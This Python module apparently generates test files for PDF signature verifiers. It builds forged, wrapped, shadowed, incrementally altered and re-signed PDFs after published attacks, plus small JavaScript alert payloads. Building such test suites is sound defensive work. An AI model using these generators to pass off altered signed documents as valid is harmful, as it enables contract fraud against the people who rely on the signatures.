"""Attacks on signed PDFs, each made from a file that was signed honestly.

After the attacks published by Mladenov, Mainka and others (universal signature forgery, signature
wrapping, incremental saving, shadow attacks, attacks on certification) and what else comes to mind
when one reads a verifier. Every generator answers the bytes of one file that must not be shown as
plainly valid.
"""

import asyncio
import dataclasses
import hashlib
import io
import re

from asn1crypto import algos, cms, core
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import signers
from pyhanko.sign.fields import FieldMDPAction, FieldMDPSpec, MDPPerm, SigFieldSpec, SigSeedSubFilter

STREAM = b"<</Length %d>>\nstream\n%s\nendstream"
FORM = b"<</Type/XObject/Subtype/Form/BBox[0 0 200 50]/Length %d>>\nstream\n%s\nendstream"
GOOD, EVIL = b"BT /F1 12 Tf 72 700 Td (Rent 3000) Tj ET", b"BT /F1 12 Tf 72 700 Td (Rent 9999) Tj ET"
ROOT, PAGES, PAGE, CONTENT, FONT, FORM_DICT, RENT, STAMP, IMAGE, PLANTED, SPARE = range(1, 12)


def stream(data, template=STREAM):
    return template % (len(data), data)


OBJECTS = {
    ROOT: b"<</Type/Catalog/Pages 2 0 R/AcroForm 6 0 R>>",
    PAGES: b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
    PAGE: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R"
    b"/Resources<</Font<</F1 5 0 R>>/XObject<</X 9 0 R>>>>/Annots[7 0 R 8 0 R]>>",
    CONTENT: stream(GOOD + b" /X Do"),
    FONT: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    FORM_DICT: b"<</Fields[7 0 R]/DR<</Font<</Helv 5 0 R>>>>/DA(/Helv 12 Tf 0 g)>>",
    RENT: b"<</Type/Annot/Subtype/Widget/FT/Tx/T(Rent)/V(3000)/Rect[72 600 272 650]/P 3 0 R/F 4/AP<</N 11 0 R>>>>",
    STAMP: b"<</Type/Annot/Subtype/Stamp/Rect[72 500 272 550]/P 3 0 R/F 4/AP<</N 9 0 R>>>>",
    IMAGE: stream(b"0 0 200 50 re f", FORM),
    # Nothing refers to these two before an attack does.
    PLANTED: stream(EVIL),
    SPARE: stream(b"BT /Helv 12 Tf 2 2 Td (3000) Tj ET", FORM),
}


def write(out, objects, trailer, free=()):
    """Appends objects, a cross-reference table and a trailer."""
    offsets = {}
    for number, body in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    return table(out, offsets, trailer, free)


def table(out, offsets, trailer, free=()):
    """Appends a cross-reference table over these offsets, whatever stands there."""
    start = len(out)
    entries = {number: b"%010d 00000 n \n" % offset for number, offset in offsets.items()}
    entries.update({number: b"0000000000 00001 f \n" for number in free})
    entries.setdefault(0, b"0000000000 65535 f \n")
    out += b"xref\n"
    for number in sorted(entries):
        out += b"%d 1\n%s" % (number, entries[number])
    size = max([900] + [int(size) for size in re.findall(rb"/Size (\d+)", out)])
    out += b"trailer\n<</Size %d%s>>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, start)
    return out


def base(**changed):
    objects = dict(OBJECTS)
    objects.update({int(key[1:]): value for key, value in changed.items()})
    return write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", objects, b"/Root 1 0 R/ID[<01><01>]")


def startxref(data):
    return int(re.findall(rb"startxref\s+(\d+)", data)[-1])


def update(data, objects, free=(), root=b"1 0 R", extra=b""):
    """A well-formed incremental update."""
    return write(data, objects, b"/Root %s/Prev %d/ID[<01><02>]%s" % (root, startxref(data), extra), free)


def body(data, number):
    """Newest text of an object."""
    found = re.findall(rb"(?:^|\n)%d 0 obj\s*(.*?)\s*endobj" % number, data, re.S)
    return found[-1]


def object_with(data, text):
    """Number of the newest object whose text holds this."""
    for number, content in reversed(re.findall(rb"(?:^|\n)(\d+) 0 obj\s*(.*?)\s*endobj", data, re.S)):
        if text in content:
            return int(number)
    raise KeyError(text)


@dataclasses.dataclass
class Gap:
    """Where the newest signature's value stands, angle brackets included."""

    start: int
    end: int

    @classmethod
    def of(cls, data):
        first, second = re.findall(rb"/ByteRange\s*\[\s*0\s+(\d+)\s+(\d+)\s+\d+\s*\]", data)[-1]
        return cls(int(first), int(second))


class Desk:
    """Files signed honestly, and a key of the attacker's own."""

    def __init__(self, authority):
        self.authority = authority
        self.first, self.second = authority.person("First"), authority.person("Second")
        self.stamper = authority.time_stamper()
        self.made = {}

    def sign(self, data, field="Sig1", person=None, visible=True, certify=None, lock=None, stamped=False, **metadata):
        box = (300, 700, 500, 760) if visible is True else visible
        writer = IncrementalPdfFileWriter(io.BytesIO(data))
        settings = signers.PdfSignatureMetadata(
            field_name=field,
            md_algorithm=metadata.pop("hash", "sha256"),
            subfilter=metadata.pop("subfilter", SigSeedSubFilter.PADES),
            certify=certify is not None,
            docmdp_permissions=certify or MDPPerm.FILL_FORMS,
        )
        spec = SigFieldSpec(field, on_page=0, box=box or None, field_mdp_spec=lock)
        stamper = self.stamper if stamped else None
        signer = signers.PdfSigner(settings, person or self.first, timestamper=stamper, new_field_spec=spec)
        return signer.sign_pdf(writer).getvalue()

    def signed(self, kind="plain"):
        """One signed file of each kind."""
        if kind not in self.made:
            lock = FieldMDPSpec(FieldMDPAction.INCLUDE, ["Rent", "Sig1"])
            everything = FieldMDPSpec(FieldMDPAction.ALL)
            self.made[kind] = {
                "plain": lambda: self.sign(base()),
                "stamped": lambda: self.sign(base(), stamped=True),
                "twice": lambda: self.sign(self.signed("plain"), "Sig2", self.second, (300, 600, 500, 660)),
                "p1": lambda: self.sign(base(), certify=MDPPerm.NO_CHANGES),
                "p2": lambda: self.sign(base(), certify=MDPPerm.FILL_FORMS),
                "p3": lambda: self.sign(base(), certify=MDPPerm.ANNOTATE),
                "locked": lambda: self.sign(base(), lock=lock),
                "locked_all": lambda: self.sign(base(), lock=everything),
            }[kind]()
        return self.made[kind]

    def value(self, digest, hash="sha256"):
        """A CMS of the attacker's over this digest, as software would make it."""
        return asyncio.run(self.second.async_sign(digest, hash, use_pades=True))

    def resign(self, data, ranges=None, change=None, hash="sha256"):
        """Puts the attacker's own signature over these ranges into the newest gap."""
        gap = Gap.of(self.signed("plain"))
        ranges = ranges or [(0, gap.start), (gap.end, len(data))]
        digest = hashlib.new(hash, b"".join(data[start:end] for start, end in ranges)).digest()
        value = self.value(digest, hash)
        return put(data, (change(value) if change else value).dump(force=True), gap)


def put(data, value, gap=None):
    """Writes a signature value into the newest gap."""
    gap = gap or Gap.of(data)
    room = gap.end - gap.start - 2
    return data[: gap.start + 1] + value.hex().encode().ljust(room, b"0") + data[gap.end - 1 :]


def value_of(data):
    gap = Gap.of(data)
    return cms.ContentInfo.load(bytes.fromhex(data[gap.start + 1 : gap.end - 1].decode()))


def same_length(data, old, new):
    assert len(old) == len(new) and data.count(old) >= 1, old
    at = data.rindex(old)
    return data[:at] + new + data[at + len(old) :]


ATTACKS = {}


def attack(make):
    ATTACKS[make.__name__] = make
    return make


def family(name, cases):
    """Registers one attack for each case; `make(desk, case)` makes the file."""

    def register(make):
        for key, case in cases.items():
            ATTACKS[f"{name}_{key}"] = lambda desk, case=case: make(desk, case)
        return make

    return register


# Universal signature forgery: the signature is made so that it cannot be checked.

MALFORMED = {
    "contents_missing": (rb"/Contents\s*<[^>]*>", b""),
    "contents_null": (rb"/Contents\s*<[^>]*>", b"/Contents null"),
    "contents_empty": (rb"/Contents\s*<[^>]*>", b"/Contents <>"),
    "contents_zero": (rb"/Contents\s*<[^>]*>", b"/Contents <00>"),
    "contents_text": (rb"/Contents\s*<[^>]*>", b"/Contents (valid)"),
    "byte_range_missing": (rb"/ByteRange\s*\[[^\]]*\]", b""),
    "byte_range_null": (rb"/ByteRange\s*\[[^\]]*\]", b"/ByteRange null"),
    "byte_range_empty": (rb"/ByteRange\s*\[[^\]]*\]", b"/ByteRange []"),
    "byte_range_negative": (rb"/ByteRange\s*\[[^\]]*\]", b"/ByteRange [0 -1 -1 0]"),
    "byte_range_zero": (rb"/ByteRange\s*\[[^\]]*\]", b"/ByteRange [0 0 0 0]"),
    "byte_range_huge": (rb"/ByteRange\s*\[[^\]]*\]", b"/ByteRange [0 4294967297 18446744073709551615 9]"),
    "byte_range_real": (rb"/ByteRange\s*\[[^\]]*\]", b"/ByteRange [0.0 1.5 2.5 3.5]"),
    "sub_filter_missing": (rb"/SubFilter\s*/[\w.]+", b""),
    "sub_filter_null": (rb"/SubFilter\s*/[\w.]+", b"/SubFilter null"),
    "sub_filter_unknown": (rb"/SubFilter\s*/[\w.]+", b"/SubFilter /Nobody.Knows"),
    "sub_filter_sha1": (rb"/SubFilter\s*/[\w.]+", b"/SubFilter /adbe.pkcs7.sha1"),
    "sub_filter_x509": (rb"/SubFilter\s*/[\w.]+", b"/SubFilter /adbe.x509.rsa_sha1"),
    "sub_filter_stamp": (rb"/SubFilter\s*/[\w.]+", b"/SubFilter /ETSI.RFC3161"),
}


@family("forgery", MALFORMED)
def forged(desk, case):
    """The signature dictionary is replaced by an update, and so is the content."""
    data = desk.signed()
    number = object_with(data, b"/ByteRange")
    text, found = re.subn(*case, body(data, number))
    assert found == 1
    return update(data, {number: text, CONTENT: stream(EVIL)})


@family("in_place", {key.lower(): key for key in ["Contents", "ByteRange", "SubFilter", "Filter", "Type"]})
def key_renamed(desk, key):
    """One key of the signature dictionary is overwritten where it stands."""
    data = desk.signed()
    number = object_with(data, b"/ByteRange")
    at = data.index(b"/" + key.encode(), data.rindex(b"\n%d 0 obj" % number))
    return data[: at + 1] + b"X" + data[at + 2 :]


# Signature wrapping: the signed bytes stay in the file, another part is shown.


def wrapped(desk, duplicate, trimmed=False):
    data = desk.signed()
    gap = Gap.of(data)
    value = data[gap.start : gap.end]
    if trimmed:
        value = value.rstrip(b"0>") + b">"
        value = value if len(value) % 2 == 0 else value[:-1] + b"0>"
    head, tail = data[: gap.start], data[gap.end :]
    evil = b"%010d 00000 n \n"
    for _ in range(3):  # until the offsets inside have settled
        inner = head + value + duplicate(len(head), evil) + b">>\nendobj\n"
        inner = update(inner, {CONTENT: stream(EVIL)})
        evil = b"/ByteRange [0 %d %d %d]" % (gap.start, len(inner), len(tail))
    return inner + tail


@attack
def wrapping_second_byte_range(desk):
    return wrapped(desk, lambda _, moved: moved)


@attack
def wrapping_second_byte_range_and_contents(desk):
    return wrapped(desk, lambda _, moved: moved + b"/Contents <30>")


@attack
def wrapping_with_the_padding_cut(desk):
    return wrapped(desk, lambda _, moved: moved, trimmed=True)


@attack
def wrapping_shown_by_the_last_pointer(desk):
    data = wrapped(desk, lambda _, moved: moved)
    inner = re.findall(rb"startxref\s+(\d+)", data)[-2]
    return data + b"startxref\n%s\n%%%%EOF\n" % inner


# Incremental saving: something is appended.

SAVED = {
    "content": lambda d: update(d, {CONTENT: stream(EVIL)}),
    "content_unwrapped": lambda d: d + b"4 0 obj\n" + stream(EVIL) + b"\nendobj\n",
    "content_without_table": lambda d: d + b"4 0 obj\n" + stream(EVIL) + b"\nendobj\ntrailer\n<</Root 1 0 R/Size 99>>\n%%EOF\n",
    "content_without_end": lambda d: update(d, {CONTENT: stream(EVIL)})[:-6],
    "content_in_a_comment": lambda d: d + b"%" + update(d, {CONTENT: stream(EVIL)})[len(d) :].replace(b"\nxref", b"\n%xref"),
    "page_points_elsewhere": lambda d: update(d, {PAGE: body(d, PAGE).replace(b"4 0 R", b"10 0 R")}),
    "page_added": lambda d: update(
        d, {PAGES: b"<</Type/Pages/Count 2/Kids[3 0 R 800 0 R]>>", 800: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"}
    ),
    "page_removed_from_tree": lambda d: update(
        d, {PAGES: b"<</Type/Pages/Count 1/Kids[800 0 R]>>", 800: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 10 0 R/Resources<</Font<</F1 5 0 R>>>>>>"}
    ),
    "page_cropped": lambda d: update(d, {PAGE: body(d, PAGE).replace(b"/MediaBox", b"/CropBox[0 0 9 9]/MediaBox")}),
    "page_turned": lambda d: update(d, {PAGE: body(d, PAGE).replace(b"/MediaBox", b"/Rotate 180/MediaBox")}),
    "catalog": lambda d: update(d, {800: b"<</Type/Catalog/Pages 2 0 R>>"}, root=b"800 0 R"),
    "open_action": lambda d: update(d, {ROOT: body(d, ROOT).replace(b"<<", b"<</OpenAction<</S/JavaScript/JS(app.alert(1))>>", 1)}),
    "names": lambda d: update(d, {ROOT: body(d, ROOT).replace(b"<<", b"<</Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(1)>>]>>>>", 1)}),
    "layers": lambda d: update(d, {ROOT: body(d, ROOT).replace(b"<<", b"<</OCProperties<</OCGs[]/D<</BaseState/OFF>>>>", 1)}),
    "attachment": lambda d: update(d, {ROOT: body(d, ROOT).replace(b"<<", b"<</AF[800 0 R]", 1), 800: b"<</Type/Filespec/F(a)>>"}),
    "note": lambda d: update(d, {PAGE: annotated(d), 800: NOTE}),
    "unused_object": lambda d: update(d, {800: stream(EVIL)}),
    "nothing": lambda d: update(d, {CONTENT: body(d, CONTENT)}),
    "metadata_of_another_kind": lambda d: update(d, {ROOT: body(d, ROOT).replace(b"<<", b"<</Metadata 10 0 R", 1)}),
}
NOTE = b"<</Type/Annot/Subtype/FreeText/Rect[72 690 300 720]/F 4/DA(/Helv 12 Tf)/Contents(Rent 9999)>>"


def annotated(data, number=800):
    return re.sub(rb"/Annots\s*\[", b"/Annots[%d 0 R " % number, body(data, PAGE))


@family("saving", SAVED)
def saved(desk, case):
    return case(desk.signed())


@family("saving_after_two", {key: SAVED[key] for key in ("content", "page_points_elsewhere", "catalog", "note")})
def saved_after_two(desk, case):
    return case(desk.signed("twice"))


@attack
def saving_with_the_signature_copied_along(desk):
    data = desk.signed()
    number = object_with(data, b"/ByteRange")
    return update(data, {number: body(data, number), CONTENT: stream(EVIL)})


# Shadow attacks: what the signer does not see is in the file already.

HIDDEN = {
    "hide_by_freeing": lambda d: update(d, {}, free=[IMAGE]),
    "hide_by_list": lambda d: update(d, {PAGE: re.sub(rb"8 0 R", b"", body(d, PAGE))}),
    "hide_by_flag": lambda d: update(d, {STAMP: body(d, STAMP).replace(b"/F 4", b"/F 2")}),
    "hide_by_emptying": lambda d: update(d, {IMAGE: stream(b"", FORM)}),
    "hide_by_resources": lambda d: update(d, {PAGE: body(d, PAGE).replace(b"/X 9 0 R", b"")}),
    "replace_value": lambda d: update(d, {RENT: body(d, RENT).replace(b"(3000)", b"(9999)")}),
    "replace_appearance": lambda d: update(d, {SPARE: stream(b"BT /Helv 12 Tf 2 2 Td (9999) Tj ET", FORM)}),
    "replace_appearance_reference": lambda d: update(d, {RENT: body(d, RENT).replace(b"11 0 R", b"9 0 R")}),
    "replace_font": lambda d: update(d, {FONT: body(d, FONT).replace(b"Helvetica", b"ZapfDingbats")}),
    "replace_need_appearances": lambda d: update(d, {FORM_DICT: body(d, FORM_DICT).replace(b"<<", b"<</NeedAppearances true", 1)}),
    "replace_default_resources": lambda d: update(d, {FORM_DICT: body(d, FORM_DICT).replace(b"5 0 R", b"800 0 R"), 800: b"<</Type/Font/Subtype/Type3>>"}),
}


@family("shadow", HIDDEN)
def shadowed(desk, case):
    return case(desk.signed())


def planted(data, number):
    """Where an object that lies in the signed bytes begins."""
    return re.search(rb"(?m)^%d 0 obj" % number, data).start()


@attack
def shadow_planted_object_by_table(desk):
    data = desk.signed()
    return table(data, {CONTENT: planted(data, PLANTED)}, b"/Root 1 0 R/Prev %d" % startxref(data))


@attack
def shadow_planted_twin_by_table(desk):
    """The evil twin bears the right number and waits before the good one."""
    twin = b"4 0 obj\n" + stream(EVIL) + b"\nendobj\n"
    start = base().replace(b"1 0 obj", twin + b"1 0 obj", 1)
    objects = {n: m.start() for n in OBJECTS if (m := list(re.finditer(rb"(?m)^%d 0 obj" % n, start))[-1])}
    data = desk.sign(table(start[: start.index(b"xref\n")], objects, b"/Root 1 0 R/ID[<01><01>]"))
    return table(data, {CONTENT: data.index(twin)}, b"/Root 1 0 R/Prev %d" % startxref(data))


@attack
def shadow_planted_catalog(desk):
    pages = {20: b"<</Type/Catalog/Pages 21 0 R>>", 21: b"<</Type/Pages/Count 1/Kids[22 0 R]>>"}
    pages[22] = PAGE_BODY.replace(b"4 0 R", b"10 0 R").replace(b"2 0 R", b"21 0 R")
    data = desk.sign(update(base(), pages))
    return table(data, {}, b"/Root 20 0 R/Prev %d" % startxref(data))


PAGE_BODY = OBJECTS[PAGE]


@attack
def shadow_planted_table(desk):
    """A whole cross-reference section waits in the signed bytes; the last pointer switches it on."""
    start = base()
    waiting = table(start + b"% ", {CONTENT: planted(start, PLANTED)}, b"/Root 1 0 R/Prev %d" % startxref(start))
    at = waiting.rindex(b"xref\n", 0, waiting.rindex(b"startxref"))
    again = write(waiting[: waiting.rindex(b"startxref")], {}, b"/Root 1 0 R/Prev %d/ID[<01><01>]" % startxref(start))
    data = desk.sign(again)
    return data + b"startxref\n%d\n%%%%EOF\n" % at


@attack
def shadow_dangling_object(desk):
    """The signed page waits for an object that the update brings."""
    data = desk.sign(base(o3=PAGE_BODY.replace(b"/Contents 4 0 R", b"/Contents[4 0 R 700 0 R]")))
    return update(data, {700: stream(EVIL)})


@attack
def shadow_dangling_object_as_validation_data(desk):
    data = desk.sign(base(o3=PAGE_BODY.replace(b"/Contents 4 0 R", b"/Contents[4 0 R 700 0 R]")))
    return update(data, {ROOT: body(data, ROOT).replace(b"<<", b"<</DSS<</Certs[700 0 R]>>", 1), 700: stream(EVIL)})


@attack
def shadow_content_as_validation_data(desk):
    data = desk.signed()
    return update(data, {ROOT: body(data, ROOT).replace(b"<<", b"<</DSS<</Certs[4 0 R]>>", 1), CONTENT: stream(EVIL)})


# Attacks on certification: annotations and signatures that cover what was certified.

CERTIFIED = {
    "p1_note": ("p1", SAVED["note"]),
    "p2_note": ("p2", SAVED["note"]),
    "p3_note_over_the_text": ("p3", SAVED["note"]),
    "p3_redaction": ("p3", lambda d: update(d, {PAGE: annotated(d), 800: NOTE.replace(b"FreeText", b"Redact")})),
    "p3_stamp": ("p3", lambda d: update(d, {PAGE: annotated(d), 800: NOTE.replace(b"FreeText", b"Stamp/AP<</N 9 0 R>>")})),
    "p1_filled": ("p1", HIDDEN["replace_value"]),
    "p1_validation_data_and_more": ("p1", lambda d: update(d, {ROOT: body(d, ROOT).replace(b"<<", b"<</DSS<<>>", 1), RENT: body(d, RENT).replace(b"(3000)", b"(9999)")})),
    "p2_content": ("p2", SAVED["content"]),
    "p3_page_added": ("p3", SAVED["page_added"]),
    "locked_field_filled": ("locked", HIDDEN["replace_value"]),
    "locked_field_moved": ("locked", lambda d: update(d, {RENT: body(d, RENT).replace(b"[72 600", b"[10 10")})),
    "all_locked_and_filled": ("locked_all", HIDDEN["replace_value"]),
}


@family("certified", CERTIFIED)
def certified(desk, case):
    kind, change = case
    return change(desk.signed(kind))


SNEAKY = {
    "p2_visible_over_the_text": ("p2", (60, 690, 400, 730)),
    "all_locked": ("locked_all", False),
}


@family("sneaky_signature", SNEAKY)
def sneaky(desk, case):
    kind, box = case
    return desk.sign(desk.signed(kind), "Sneaky", desk.second, box)


@family("sneaky_signature", {"p1_any": False, "p1_visible": (60, 690, 400, 730)})
def sneaky_after_no_changes(desk, box):
    """Honest software refuses to sign after P = 1, so the certification is made stricter afterwards."""
    data = sneaky(desk, ("p2", box))
    data = data.replace(b"/P 2", b"/P 1", 1)
    for first, second, rest in re.findall(rb"/ByteRange\s*\[\s*0\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", data):
        gap = Gap(int(first), int(second))
        signed = data[: gap.start] + data[gap.end : gap.end + int(rest)]
        data = put(data, desk.value(hashlib.sha256(signed).digest()).dump(), gap)
    return data


@attack
def sneaky_signature_with_a_filled_field(desk):
    """A later signer fills a field that nobody gave them."""
    return desk.sign(HIDDEN["replace_value"](desk.signed()), "Sig2", desk.second, (300, 600, 500, 660))


@attack
def sneaky_signature_over_other_content(desk):
    return desk.sign(SAVED["content"](desk.signed()), "Sig2", desk.second, (300, 600, 500, 660))


# Ranges: the attacker signs with a key of their own, over bytes of their choice.


def ranged(desk, numbers, ranges):
    data = desk.signed()
    room = re.findall(rb"/ByteRange\s*\[[^\]]*\][ ]*", data)[-1]
    text = b"/ByteRange [%s]" % b" ".join(b"%d" % number for number in numbers)
    assert len(text) <= len(room), (text, room)
    return desk.resign(same_length(data, room, text.ljust(len(room))), ranges)


def places(desk):
    data = desk.signed()
    gap = Gap.of(data)
    return gap.start, gap.end, len(data)


RANGES = {
    "late_start": lambda s, e, n: ([9, s - 9, e, n - e], [(9, s), (e, n)]),
    "early_end": lambda s, e, n: ([0, s, e, n - e - 30], [(0, s), (e, n - 30)]),
    "wider_gap_before": lambda s, e, n: ([0, s - 12, e, n - e], [(0, s - 12), (e, n)]),
    "wider_gap_after": lambda s, e, n: ([0, s, e + 6, n - e - 6], [(0, s), (e + 6, n)]),
    "overlap": lambda s, e, n: ([0, s, 9, n - e], [(0, s), (9, 9 + n - e)]),
    "first_only": lambda s, e, n: ([0, s, e, 0], [(0, s)]),
    "two_numbers": lambda s, e, n: ([0, s], [(0, s)]),
    "reversed": lambda s, e, n: ([e, n - e, 0, s], [(e, n), (0, s)]),
    "past_the_end": lambda s, e, n: ([0, s, e, n - e + 99], [(0, s), (e, n)]),
}


@family("range", RANGES)
def with_range(desk, case):
    return ranged(desk, *case(*places(desk)))


@attack
def range_with_a_foreign_byte_in_the_gap(desk):
    data = desk.signed()
    gap = Gap.of(data)
    return data[: gap.end - 40] + b"(evil)" + data[gap.end - 34 :]


@attack
def range_shared_by_two_fields(desk):
    data = desk.signed()
    number = object_with(data, b"/ByteRange")
    twin = b"<</Type/Annot/Subtype/Widget/FT/Sig/T(Sig2)/V %d 0 R/Rect[0 0 0 0]/P 3 0 R/F 132>>" % number
    fields = re.sub(rb"/Fields\s*\[", b"/Fields[800 0 R ", body(data, FORM_DICT))
    return update(data, {800: twin, FORM_DICT: fields, PAGE: annotated(data)})


@attack
def range_copied_into_a_second_signature(desk):
    data = desk.signed()
    number = object_with(data, b"/ByteRange")
    twin = b"<</Type/Annot/Subtype/Widget/FT/Sig/T(Sig2)/V 801 0 R/Rect[0 0 0 0]/P 3 0 R/F 132>>"
    fields = re.sub(rb"/Fields\s*\[", b"/Fields[800 0 R ", body(data, FORM_DICT))
    return update(data, {800: twin, 801: body(data, number), FORM_DICT: fields, PAGE: annotated(data)})


# The signature value.


def signer_of(value):
    return value["content"]["signer_infos"][0]


def weak(name):
    def change(value):
        signer_of(value)["digest_algorithm"] = algos.DigestAlgorithm({"algorithm": name})
        return value

    return change


def embedded(value):
    value["content"]["encap_content_info"] = {"content_type": "data", "content": core.OctetString(EVIL)}
    return value


def two_signers(value):
    infos = value["content"]["signer_infos"]
    infos.append(infos[0].copy())
    return value


def without_attributes(value):
    del signer_of(value)["signed_attrs"]
    return value


def other_type(value):
    value["content"]["encap_content_info"]["content_type"] = "1.2.840.113549.1.9.16.1.4"
    return value


def without_certificates(value):
    del value["content"]["certificates"]
    return value


def other_serial(value):
    signer_of(value)["sid"].chosen["serial_number"] = 4711
    return value


def broken_value(value):
    raw = bytearray(signer_of(value)["signature"].native)
    raw[-1] ^= 1
    signer_of(value)["signature"] = bytes(raw)
    return value


VALUES = {
    "sha1_named": weak("sha1"),
    "md5_named": weak("md5"),
    "embedded_content": embedded,
    "two_signers": two_signers,
    "no_attributes": without_attributes,
    "other_content_type": other_type,
    "no_certificates": without_certificates,
    "other_serial_number": other_serial,
    "one_bit": broken_value,
}


@family("value", VALUES)
def with_value(desk, change):
    return desk.resign(desk.signed(), change=change)


@attack
def value_by_sha1(desk):
    return desk.resign(desk.signed(), hash="sha1")


@attack
def value_of_another_document(desk):
    other = value_of(desk.sign(base(o4=stream(EVIL))))
    return put(desk.signed(), other.dump())


@attack
def value_with_an_injected_signer(desk):
    """The certificate of somebody else goes first and the identifier names it."""
    value = value_of(desk.signed())
    other = desk.second.signing_cert
    chosen = [one.chosen for one in value["content"]["certificates"]]
    value["content"]["certificates"] = [cms.CertificateChoices("certificate", one) for one in [other, *chosen]]
    signer_of(value)["sid"] = cms.SignerIdentifier(
        "issuer_and_serial_number", {"issuer": other.issuer, "serial_number": other.serial_number}
    )
    return put(desk.signed(), value.dump())


def with_token(desk, token):
    value = value_of(desk.signed("stamped"))
    attributes = signer_of(value)["unsigned_attrs"]
    attributes[0] = cms.CMSAttribute({"type": "signature_time_stamp_token", "values": [token]})
    return put(desk.signed("stamped"), value.dump())


@attack
def time_stamp_of_another_signature(desk):
    other = value_of(desk.sign(base(o4=stream(EVIL)), stamped=True))
    return with_token(desk, signer_of(other)["unsigned_attrs"][0]["values"][0])


@attack
def time_stamp_with_another_time(desk):
    data = desk.signed("stamped")
    token = signer_of(value_of(data))["unsigned_attrs"][0]["values"][0]
    info = token["content"]["encap_content_info"]["content"].parsed
    old = info["gen_time"].dump()
    at = old.index(b"20") + 2
    new = old[:at] + (b"19" if old[at : at + 2] != b"19" else b"18") + old[at + 2 :]
    gap = Gap.of(data)
    digits = data[gap.start : gap.end].lower()
    changed = digits.replace(old.hex().encode(), new.hex().encode())
    assert changed != digits
    return data[: gap.start] + changed + data[gap.end :]


@attack
def time_stamp_that_is_none(desk):
    return with_token(desk, cms.ContentInfo({"content_type": "data", "content": core.OctetString(b"x")}))


# Fields and seals, after all have signed.


def seal_of(data):
    """Number of the newest signature's field."""
    return object_with(data, b"/FT /Sig") if b"/FT /Sig" in data else object_with(data, b"/FT/Sig")


def field_changed(change):
    return lambda d: update(d, {seal_of(d): change(body(d, seal_of(d)))})


SEALS = {
    "hidden": field_changed(lambda t: re.sub(rb"/F \d+", b"/F 2", t)),
    "moved": field_changed(lambda t: re.sub(rb"/Rect\s*\[[^\]]*\]", b"/Rect[0 0 9 9]", t)),
    "renamed": field_changed(lambda t: re.sub(rb"/T \([^)]*\)", b"/T (Other)", t)),
    "repainted": field_changed(lambda t: re.sub(rb"/AP\s*<<[^>]*>>", b"/AP <</N 9 0 R>>", t)),
    "given_an_action": field_changed(lambda t: t.replace(b"<<", b"<</AA<</E<</S/JavaScript/JS(1)>>>>", 1)),
    "emptied": field_changed(lambda t: re.sub(rb"/V \d+ 0 R", b"", t)),
    "taken_from_the_form": lambda d: update(d, {FORM_DICT: re.sub(rb"/Fields\s*\[[^\]]*\]", b"/Fields[7 0 R]", body(d, FORM_DICT))}),
    "taken_with_the_form": lambda d: update(d, {ROOT: re.sub(rb"/AcroForm 6 0 R", b"", body(d, ROOT))}),
    "freed": lambda d: update(d, {}, free=[seal_of(d)]),
}


@family("seal", SEALS)
def seal_tampered(desk, change):
    return change(desk.signed())


@family("last_seal", {key: SEALS[key] for key in ("hidden", "moved", "repainted", "emptied", "freed")})
def last_seal_tampered(desk, change):
    return change(desk.signed("twice"))


# Cross references.


def hidden_section(data, entries):
    """A hybrid update: the table shows nothing new, the stream beside it does (7.5.8.4)."""
    at = len(data)
    rows = b"".join(b"\x01" + offset.to_bytes(4, "big") + b"\x00\x00" for offset in entries.values())
    index = b" ".join(b"%d 1" % number for number in entries)
    head = b"850 0 obj\n<</Type/XRef/Size 900/W[1 4 2]/Index[%s]/Root 1 0 R/Length %d>>\nstream\n" % (index, len(rows))
    out = data + head + rows + b"\nendstream\nendobj\n"
    return table(out, {850: at}, b"/Root 1 0 R/Prev %d/XRefStm %d" % (startxref(data), at))


@attack
def crossref_hybrid_section_hides_content(desk):
    data = desk.signed()
    with_evil = data + b"4 0 obj\n" + stream(EVIL) + b"\nendobj\n"
    return hidden_section(with_evil, {CONTENT: len(data)})


@attack
def crossref_hybrid_section_switches_on_a_planted_object(desk):
    data = desk.signed()
    return hidden_section(data, {CONTENT: planted(data, PLANTED)})


@attack
def crossref_history_bypassed(desk):
    """The update follows the unsigned state and keeps the signature by its offset."""
    data, start = desk.signed(), base()
    kept = {n: planted(data, n) for n in (seal_of(data), object_with(data, b"/ByteRange"))}
    for number in (ROOT, PAGE, FORM_DICT):
        kept[number] = list(re.finditer(rb"(?m)^%d 0 obj" % number, data))[-1].start()
    kept[CONTENT] = len(data)
    out = data + b"4 0 obj\n" + stream(EVIL) + b"\nendobj\n"
    return table(out, kept, b"/Root 1 0 R/Prev %d" % startxref(start))


@attack
def crossref_points_back(desk):
    data = desk.signed()
    return data + b"startxref\n%d\n%%%%EOF\n" % startxref(base())


@attack
def crossref_in_a_circle(desk):
    data = desk.signed()
    return write(data, {CONTENT: stream(EVIL)}, b"/Root 1 0 R/Prev %d" % len(data))


@attack
def crossref_generation_raised(desk):
    data = desk.signed()
    out = data + b"4 1 obj\n" + stream(EVIL) + b"\nendobj\n3 0 obj\n" + body(data, PAGE).replace(b"4 0 R", b"4 1 R") + b"\nendobj\n"
    start = len(out)
    page = out.rindex(b"3 0 obj")
    out += b"xref\n3 1\n%010d 00000 n \n4 1\n%010d 00001 n \n" % (page, len(data))
    return out + b"trailer\n<</Size 900/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (startxref(data), start)


# Whatever stands after the end.

TAILS = {
    "word": b"evil",
    "comment": b"% evil\n",
    "markup": b"<html><script>alert(1)</script></html>",
    "archive": b"PK\x03\x04" + bytes(40) + b"PK\x05\x06" + bytes(18),
    "header": b"%PDF-1.7\n%%EOF\n",
}


@family("tail", TAILS)
def with_tail(desk, tail):
    return desk.signed() + tail


@attack
def tail_of_another_file(desk):
    return desk.signed() + base(o4=stream(EVIL))


@attack
def altered_content(desk):
    return desk.signed().replace(b"Rent 3000", b"Rent 9999", 1)


@attack
def altered_date(desk):
    data = desk.signed()
    return re.sub(rb"(/M \(D\\072)\d{4}", rb"\g<1>1999", data, count=1)
